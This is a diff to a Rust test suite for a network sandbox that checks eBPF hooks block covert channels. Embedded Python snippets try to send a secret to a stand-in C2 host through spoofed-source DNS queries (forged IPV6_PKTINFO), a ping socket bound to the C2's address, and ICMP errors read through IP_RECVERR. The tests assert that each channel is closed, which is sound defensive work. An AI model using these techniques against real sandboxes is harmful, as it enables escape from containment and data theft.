@@ -17,8 +17,10 @@
 //! or a host's `ip_nonlocal_bind`) opened a TCP connection from the sandbox's listener to
 //! the C2; the resolver answered a query from that source to the C2; `SO_REUSEPORT` let a
 //! sandbox join a nobody host service's group; `SO_REUSEADDR` let a sandbox's UDP socket
-//! take a host service's datagrams. Open: the resolver on a `ip_nonlocal_bind` host, and
-//! ICMP errors as an inbound channel.
+//! take a host service's datagrams; on a `ip_nonlocal_bind` host the resolver answered a
+//! query from a non-local source (bound, or named in an `IPV6_PKTINFO` control message),
+//! and a ping socket bound to the C2's address had the echo reply sent there; ICMP errors
+//! quoting a sandbox's datagram were an inbound channel through `IP_RECVERR`. All closed.
 
 use std::{
     io::{BufRead as _, BufReader, Write as _},
@@ -283,8 +285,8 @@ fn spoofed_client(name: &str, mode: &str) {
             e["hook"] == "setsockopt" && e["reason"] == "nonlocal_source"
         });
     } else {
-        env.wait_event("the spoofed client's SYN refused", |e| {
-            e["hook"] == "skb_ingress" && e["reason"] == "inbound" && e["dst"] == C2_6
+        env.wait_event("the bind to the C2's address refused", |e| {
+            e["hook"] == "bind6" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
         });
     }
 }
@@ -302,9 +304,10 @@ fn a_same_sandbox_client_with_a_foreign_source_does_not_open_a_connection_to_it(
 }
 
 /// As above on a host that lets every socket bind a non-local address
-/// (`net.ipv6.ip_nonlocal_bind = 1`, no option to refuse): the listener now admits a
-/// same-sandbox client only from a local source (the address it connected to, or
-/// loopback), so the SYN is dropped and reported.
+/// (`net.ipv6.ip_nonlocal_bind = 1`, no option to refuse): a sandbox now binds only the
+/// host's addresses (`cgroup/bind6`, reason `nonlocal_source`). Behind that, the
+/// listener admits a same-sandbox client only from a local source (the address it
+/// connected to, or loopback), so such a SYN would be dropped and reported too.
 #[test]
 fn a_same_sandbox_client_from_a_nonlocal_bind_host_does_not_open_a_connection_to_it() {
     spoofed_client("ar13-spoofsys", "sysctl");
@@ -359,6 +362,11 @@ fn spoofed_query(name: &str, mode: &str) {
         !payload.contains(&secret),
         "the resolver answered the C2 {C2_6} with the sandbox's name: {seen}"
     );
+    if mode == "sysctl" {
+        env.wait_event("the bind to the C2's address refused", |e| {
+            e["hook"] == "bind6" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
+        });
+    }
 }
 
 /// The same foreign source on a DNS query: the kernel redirects port 53 to hb's resolver
@@ -370,11 +378,205 @@ fn a_dns_query_from_a_foreign_source_is_not_answered_to_it() {
     spoofed_query("ar13-dnsspoof", "option");
 }
 
-/// As above on a host with `net.ipv6.ip_nonlocal_bind = 1`, where no option is needed.
+/// As above on a host with `net.ipv6.ip_nonlocal_bind = 1`, where no option is needed:
+/// now a sandbox may bind only an address of the host (`cgroup/bind6` against
+/// `HB_LOCAL_ADDRS`, which the agent keeps from rtnetlink; reason `nonlocal_source`).
 #[test]
-#[ignore = "open: with net.ipv6.ip_nonlocal_bind = 1 the resolver answers a query from a non-local source (the C2) with the sandbox's name; it must answer only clients whose address is the host's"]
 fn a_dns_query_from_a_nonlocal_bind_host_is_not_answered_to_its_source() {
     spoofed_query("ar13-dnsspoofsys", "sysctl");
+}
+
+/// In the sandbox: an unbound UDP socket sends a query to a nameserver (the kernel
+/// redirects it to hb's resolver) with an `IPV6_PKTINFO` control message naming the C2
+/// as the source — which a host with `net.ipv6.ip_nonlocal_bind = 1` accepts without
+/// any option or bind.
+const PY_PKTINFO_QUERY: &str = r#"
+import json, socket, struct, sys, time
+c2, secret = sys.argv[1], sys.argv[2]
+u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+res = {}
+info = socket.inet_pton(socket.AF_INET6, c2) + struct.pack("@I", 0)
+name = b"".join(bytes([len(x)]) + x.encode() for x in [secret, "evil", "test"]) + b"\0"
+q = struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
+try:
+    for _ in range(3):
+        u.sendmsg([q], [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, info)], 0, ("2001:db8::53", 53))
+    res["sent"] = True
+except OSError as e:
+    res["sent"] = str(e)
+time.sleep(1.5)
+print(json.dumps(res))
+"#;
+
+/// The source a control message names needs no bind: `cgroup/sendmsg6` refuses a
+/// `msg_src_ip6` that is not the host's (reason `nonlocal_source`). (A connected
+/// socket's control message makes the kernel run the sendmsg hook too: `udpv6_sendmsg`
+/// treats a send with control data as unconnected.)
+#[test]
+fn a_dns_query_with_a_forged_pktinfo_source_is_not_answered_to_it() {
+    let env = world("ar13-dnspktinfo");
+    let mode = "cmsg";
+    nonlocal("sysctl");
+    let secret = format!("exfil-{}", random_suffix());
+    let c2 = Outside::start(PY_C2_TCP6, &[OWN6, C2_NET6]);
+    let got = sandbox_json(&env, "closed", PY_PKTINFO_QUERY, &[C2_6, &secret]);
+    let seen = c2.finish();
+    let payload = seen["payload"].as_str().unwrap_or_default();
+    println!(
+        "figure: pktinfo {mode}: sandbox {got}; C2 got {} datagram(s) from {}, secret {}",
+        seen["datagrams"],
+        seen["from"],
+        if payload.contains(&secret) {
+            "received"
+        } else {
+            "not received"
+        }
+    );
+    assert!(
+        !payload.contains(&secret),
+        "the resolver answered the C2 {C2_6} with the sandbox's name: {seen}"
+    );
+    env.wait_event("the forged source refused", |e| {
+        e["hook"] == "sendmsg6" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
+    });
+}
+
+/// In the sandbox: binds UDP sockets to each address of argv (after `--retry`, retried
+/// until the result changes from the first, for up to ~5 s: an address the host gained or
+/// lost a moment ago). `{"ADDR": "ok" | errno name}`.
+const PY_BIND_ADDRS: &str = r#"
+import errno, json, socket, sys, time
+def bind(addr):
+    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        s.bind((addr, 0)); return "ok"
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e.errno))
+    finally:
+        s.close()
+res = {}
+args = sys.argv[1:]
+retry = False
+for a in args:
+    if a == "--retry":
+        retry = True; continue
+    res[a] = bind(a)
+    if retry:
+        want = "EPERM" if res[a] == "ok" else "ok"
+        for _ in range(50):
+            if res[a] == want: break
+            time.sleep(0.1); res[a] = bind(a)
+print(json.dumps(res))
+"#;
+
+/// In the sandbox: sets the sticky `IPV6_PKTINFO` (the source for a UDP socket's
+/// datagrams) to each address of argv. `{"ADDR": "ok" | errno name}`.
+const PY_STICKY_PKTINFO: &str = r#"
+import errno, json, socket, struct, sys
+res = {}
+for a in sys.argv[1:]:
+    u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+    try:
+        u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, socket.inet_pton(socket.AF_INET6, a) + struct.pack("@I", 0))
+        res[a] = "ok"
+    except OSError as e:
+        res[a] = errno.errorcode.get(e.errno, str(e.errno))
+    u.close()
+print(json.dumps(res))
+"#;
+
+fn ip_cmd(args: &str) {
+    let out = Command::new("sh")
+        .arg("-c")
+        .arg(format!("ip {args}"))
+        .output()
+        .expect("ip");
+    assert!(
+        out.status.success(),
+        "ip {args}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// With `ip_nonlocal_bind` set for both families (the kernel would let any socket bind
+/// any address), a sandbox binds the host's addresses — its own, loopback (all of
+/// 127/8), the wildcard — and no other: the C2's is refused (EPERM), and so is a sticky
+/// `IPV6_PKTINFO` naming it. `maps dump local_addrs` lists what the kernel holds. An address the
+/// host gains after the agent started becomes bindable, and one it loses stops being
+/// (the agent follows rtnetlink).
+#[test]
+fn a_sandbox_binds_the_hosts_addresses_and_no_other() {
+    let env = world("ar13-binds");
+    ip_sysctl("net.ipv6.ip_nonlocal_bind=1");
+    ip_sysctl("net.ipv4.ip_nonlocal_bind=1");
+    let first = sandbox_json(
+        &env,
+        "closed",
+        PY_BIND_ADDRS,
+        &[
+            OWN4,
+            OWN6,
+            "127.0.0.53",
+            "::1",
+            "0.0.0.0",
+            "::",
+            "::ffff:127.0.0.1",
+            C2_6,
+            C2_4,
+            "::ffff:198.51.100.66",
+            "2001:db8::77",
+        ],
+    );
+    println!("figure: binds before: {first}");
+    for ok in [
+        OWN4,
+        OWN6,
+        "127.0.0.53",
+        "::1",
+        "0.0.0.0",
+        "::",
+        "::ffff:127.0.0.1",
+    ] {
+        assert_eq!(first[ok], "ok", "{ok}: {first}");
+    }
+    for refused in [C2_6, C2_4, "::ffff:198.51.100.66", "2001:db8::77"] {
+        assert_eq!(first[refused], "EPERM", "{refused}: {first}");
+    }
+    env.wait_event("the bind to the C2's address refused", |e| {
+        e["hook"] == "bind4" && e["reason"] == "nonlocal_source" && e["dst"] == C2_4
+    });
+    let sticky = sandbox_json(&env, "closed", PY_STICKY_PKTINFO, &[C2_6, OWN6, "::"]);
+    println!("figure: sticky IPV6_PKTINFO {sticky}");
+    assert_eq!(sticky[C2_6], "EPERM", "{sticky}");
+    assert_eq!(sticky[OWN6], "ok", "{sticky}");
+    assert_eq!(sticky["::"], "ok", "{sticky}");
+    env.wait_event("the sticky IPV6_PKTINFO naming the C2 refused", |e| {
+        e["hook"] == "setsockopt" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
+    });
+    let dump = env.hb(&["maps", "dump", "local_addrs", "--json"]);
+    let listed = String::from_utf8_lossy(&dump.stdout).to_string();
+    println!("figure: HB_LOCAL_ADDRS {listed}");
+    for want in [
+        "\"203.0.113.20/32\"",
+        "\"2001:db8::20/128\"",
+        "\"127.0.0.0/8\"",
+        "\"::1/128\"",
+    ] {
+        assert!(
+            listed.contains(want),
+            "{want} in maps dump local_addrs: {listed}"
+        );
+    }
+    ip_cmd("-6 addr add 2001:db8::77/128 dev lo nodad");
+    let added = sandbox_json(&env, "closed", PY_BIND_ADDRS, &["--retry", "2001:db8::77"]);
+    ip_cmd("-6 addr del 2001:db8::77/128 dev lo");
+    let removed = sandbox_json(&env, "closed", PY_BIND_ADDRS, &["--retry", "2001:db8::77"]);
+    println!("figure: after the address was added {added}, after it was removed {removed}");
+    assert_eq!(added["2001:db8::77"], "ok", "an added address: {added}");
+    assert_eq!(
+        removed["2001:db8::77"], "EPERM",
+        "a removed address: {removed}"
+    );
 }
 
 /// A host service (outside every sandbox) running as nobody, like many daemons that drop
@@ -639,7 +841,13 @@ s.bind((own, 40001))
 s.setsockopt(socket.SOL_IP, 11, 1)  # IP_RECVERR
 s.connect((own, 40002))
 print("ready", flush=True)
-res = {"heard": [], "from": []}
+res = {"heard": [], "from": [], "recverr": s.getsockopt(socket.SOL_IP, 11)}
+v6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+v6.setsockopt(socket.IPPROTO_IPV6, 25, 1)  # IPV6_RECVERR
+res["recverr6"] = v6.getsockopt(socket.IPPROTO_IPV6, 25)
+t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+t.setsockopt(socket.SOL_IP, 11, 1)
+res["tcp_recverr"] = t.getsockopt(socket.SOL_IP, 11)
 end = time.time() + 3
 while time.time() < end:
     try:
@@ -660,38 +868,64 @@ print(json.dumps(res), flush=True)
 /// the C2, which the sandbox may neither reach nor hear, sends "port unreachable" errors
 /// quoting a datagram of the sandbox's connected UDP socket, with the command as the
 /// quoted payload; with `IP_RECVERR` the sandbox reads the command and the C2's address.
+/// A policy that accepts inbound connections and may reach the sandbox's own address.
+const HEARING_POLICY: &str = r#"
+[[policy]]
+name = "hearing"
+inbound = true
+allow_cidrs = ["203.0.113.20/32"]
+"#;
+
 /// An inbound channel only (nothing goes out), against the promise that a sandbox's UDP
-/// sockets hear only their admitted peer.
+/// sockets hear only their admitted peer. Now `cgroup/setsockopt` rewrites `IP_RECVERR`
+/// to 0 for a policy without `inbound = true` (the call succeeds: glibc's resolver sets
+/// it on every query's socket), with a `setsockopt`/`error_queue` event; a policy with
+/// `inbound = true` keeps the option, and hears the errors (the control that shows the
+/// errors arrive at all).
 #[test]
-#[ignore = "open: ICMP errors reach a sandbox's error queue from any host; fix: refuse IP_RECVERR/IPV6_RECVERR (and RECVERR_RFC4884) in cgroup/setsockopt, which leaves the errno (sk_err) channel of a few bits per error"]
 fn icmp_errors_from_a_host_the_sandbox_may_not_hear_carry_nothing_to_it() {
-    let env = world_with("ar13-icmperr", "", &[C2_4]);
-    let command = format!("cmd-{}", random_suffix());
-    let mut reader = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
-        &env,
-        "closed",
-        &[],
-        &[python(), "-c", PY_ERRQUEUE, OWN4],
-    ));
-    assert_eq!(reader.line(), "ready");
-    let mut c2 = Outside::start(PY_C2_ICMP, &[OWN4, OWN4, &command, C2_4]);
-    if let Some(s) = c2.stdin.as_mut() {
-        s.write_all(b"go\n").expect("go");
+    let env = world_with("ar13-icmperr", HEARING_POLICY, &[C2_4]);
+    for policy in ["closed", "hearing"] {
+        let command = format!("cmd-{}", random_suffix());
+        let mut reader = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
+            &env,
+            policy,
+            &[],
+            &[python(), "-c", PY_ERRQUEUE, OWN4],
+        ));
+        assert_eq!(reader.line(), "ready");
+        let mut c2 = Outside::start(PY_C2_ICMP, &[OWN4, OWN4, &command, C2_4]);
+        if let Some(s) = c2.stdin.as_mut() {
+            s.write_all(b"go\n").expect("go");
+        }
+        let sent = c2.line();
+        let said = reader.line();
+        let heard: Value =
+            serde_json::from_str(&said).unwrap_or_else(|e| panic!("sandbox said {said:?}: {e}"));
+        let got = heard["heard"].as_array().map_or(0, |h| {
+            h.iter()
+                .filter(|p| p.as_str().is_some_and(|p| p.contains(&command)))
+                .count()
+        });
+        println!(
+            "figure: policy {policy}: C2 {sent}; IP_RECVERR reads {}; the sandbox read the \
+             command {got} time(s), from {}",
+            heard["recverr"], heard["from"]
+        );
+        if policy == "closed" {
+            assert_eq!(got, 0, "the C2's command reached the sandbox: {heard}");
+            assert_eq!(heard["recverr"], 0, "IP_RECVERR stayed on: {heard}");
+            assert_eq!(heard["recverr6"], 0, "IPV6_RECVERR stayed on: {heard}");
+        } else {
+            assert!(got > 0, "inbound = true keeps the error queue: {heard}");
+            assert_eq!(heard["recverr6"], 1, "{heard}");
+        }
+        // TCP queues no ICMP error: its option is kept.
+        assert_eq!(heard["tcp_recverr"], 1, "{heard}");
     }
-    let sent = c2.line();
-    let said = reader.line();
-    let heard: Value =
-        serde_json::from_str(&said).unwrap_or_else(|e| panic!("sandbox said {said:?}: {e}"));
-    let got = heard["heard"].as_array().map_or(0, |h| {
-        h.iter()
-            .filter(|p| p.as_str().is_some_and(|p| p.contains(&command)))
-            .count()
+    env.wait_event("IP_RECVERR rewritten", |e| {
+        e["hook"] == "setsockopt" && e["reason"] == "error_queue" && e["port"] == 11
     });
-    println!(
-        "figure: C2 {sent}; the sandbox read the command {got} time(s), from {}",
-        heard["from"]
-    );
-    assert_eq!(got, 0, "the C2's command reached the sandbox: {heard}");
 }
 
 /// In the sandbox: binds each `PORT` of argv, over UDP and TCP, on loopback and on the
@@ -818,3 +1052,84 @@ fn shared_ports_are_refused_beside_the_host_only() {
     assert_eq!(own["reuseport"], "ok", "{own}");
     assert_eq!(own["udp_reuseaddr"], "ok", "{own}");
 }
+
+/// In the sandbox: an ICMPv6 ping socket bound to the C2's address (ping sockets have
+/// a bind of their own, `ping_bind`, for which the kernel runs no `cgroup/bind6`) sends
+/// an echo request with the secret to the sandbox's own (allowed) address; the echo
+/// reply, secret included, is addressed to the bound source.
+const PY_PING_SPOOF: &str = r#"
+import json, socket, struct, sys, time
+own, c2, secret = sys.argv[1], sys.argv[2], sys.argv[3]
+res = {}
+try:
+    p = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6)
+except OSError as e:
+    res["socket"] = str(e); print(json.dumps(res)); sys.exit(0)
+try:
+    p.bind((c2, 0)); res["bind"] = "ok"
+except OSError as e:
+    res["bind"] = str(e); print(json.dumps(res)); sys.exit(0)
+try:
+    for i in range(3):
+        p.sendto(struct.pack("!BBHHH", 128, 0, 0, 0, i) + secret.encode(), (own, 0))
+    res["sent"] = True
+except OSError as e:
+    res["sent"] = str(e)
+time.sleep(1)
+print(json.dumps(res))
+"#;
+
+/// Ping sockets (open to every group here, as many distributions set
+/// `net.ipv4.ping_group_range`) on a host with `net.ipv6.ip_nonlocal_bind = 1`: their
+/// bind runs no cgroup hook, so the echo request leaves from the C2's address and the
+/// host's echo reply carries the secret to the C2. Now `cgroup_skb/egress` drops an
+/// IPv6 packet other than TCP and UDP from a source that is not the host's (reason
+/// `nonlocal_source`).
+#[test]
+fn a_ping_socket_bound_to_a_foreign_source_sends_nothing_to_it() {
+    let env = world("ar13-pingspoof");
+    nonlocal("sysctl");
+    ip_sysctl("net.ipv4.ping_group_range=0 2147483647");
+    let secret = format!("exfil-{}", random_suffix());
+    let c2 = Outside::start(PY_C2_ICMP6_SEEN, &[C2_NET6]);
+    let got = sandbox_json(&env, "closed", PY_PING_SPOOF, &[OWN6, C2_6, &secret]);
+    let seen = c2.finish();
+    let payload = seen["payload"].as_str().unwrap_or_default();
+    println!(
+        "figure: ping: sandbox {got}; C2 saw {} ICMPv6 packet(s), secret {}",
+        seen["packets"],
+        if payload.contains(&secret) {
+            "received"
+        } else {
+            "not received"
+        }
+    );
+    assert!(
+        !payload.contains(&secret),
+        "the echo reply reached the C2: {seen}"
+    );
+    env.wait_event("the echo request from the C2's address dropped", |e| {
+        e["hook"] == "skb_egress" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
+    });
+}
+
+/// The C2 as a tun device that records every ICMPv6 packet routed to its network.
+const PY_C2_ICMP6_SEEN: &str = r#"
+import fcntl, json, os, select, struct, subprocess, sys
+net = sys.argv[1]
+tun = os.open("/dev/net/tun", os.O_RDWR)
+fcntl.ioctl(tun, 0x400454ca, struct.pack("16sH", b"hbc2", 0x0001 | 0x1000))
+subprocess.run(["ip", "link", "set", "hbc2", "up"], check=True)
+subprocess.run(["ip", "-6", "route", "add", net, "dev", "hbc2"], check=True)
+packets, payload = 0, b""
+print("ready", flush=True)
+while True:
+    r, _, _ = select.select([tun, sys.stdin], [], [])
+    if sys.stdin in r:
+        break
+    pkt = os.read(tun, 65535)
+    if len(pkt) >= 48 and pkt[0] >> 4 == 6 and pkt[6] == 58:
+        packets += 1
+        payload += pkt[48:]
+print(json.dumps({"packets": packets, "payload": payload.decode("latin-1")}), flush=True)
+"#;
